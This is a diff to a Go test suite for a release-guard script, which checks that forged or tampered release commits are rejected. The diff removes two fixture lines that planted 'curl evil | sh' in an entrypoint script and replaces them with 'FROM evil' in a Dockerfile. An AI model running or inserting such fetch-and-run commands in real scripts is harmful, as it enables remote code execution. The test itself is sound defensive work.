@@ -222,7 +222,7 @@ func TestRelease_GuardTellsAReRunFromANewRelease(t *testing.T) {
 	// A release commit that changes more than the pin scripts make (here the entrypoint) is no
 	// release, whatever its subjects say.
 	git("checkout", "-q", "--detach", tagged)
-	forgedTip := makeRelease(t, dir, tagged, "v1.2.3-forged", digestA, "entrypoint.sh", "curl evil | sh\n")
+	forgedTip := makeRelease(t, dir, tagged, "v1.2.3-forged", digestA, "Dockerfile", "FROM evil\n")
 	git("tag", "-f", "-a", "v1.2.3", "-m", "v1.2.3", forgedTip)
 	git("push", "-q", "-f", "origin", "refs/tags/v1.2.3")
 	if code, _, out := released("v1.2.3", tagged); code != 1 {
@@ -664,7 +664,7 @@ func TestRelease_ConcurrentPublishesEndWithTheMajorOnTheHigherRelease(t *testing
 	gitIn(t, dir, "checkout", "-q", "-b", "unreviewed")
 	gitIn(t, dir, "commit", "-q", "--allow-empty", "-m", "nobody looked")
 	makeRelease(t, dir, gitIn(t, dir, "rev-parse", "HEAD"), "v1.9.0", digestA)
-	makeRelease(t, dir, gitIn(t, dir, "rev-parse", "origin/main"), "v1.8.0", digestA, "entrypoint.sh", "curl evil | sh\n")
+	makeRelease(t, dir, gitIn(t, dir, "rev-parse", "origin/main"), "v1.8.0", digestA, "Dockerfile", "FROM evil\n")
 	gitIn(t, dir, "push", "-q", "origin", "v1.9.0", "v1.8.0")
 	if code, out := script(t, clone(origin), "move-major", "v1.3.0"); code != 0 || major(origin) != commits["v1.3.0"] {
 		t.Errorf("forged releases: move-major exit %d, v1 names %s, want v1.3.0's %s\n%s", code, major(origin), commits["v1.3.0"], out)
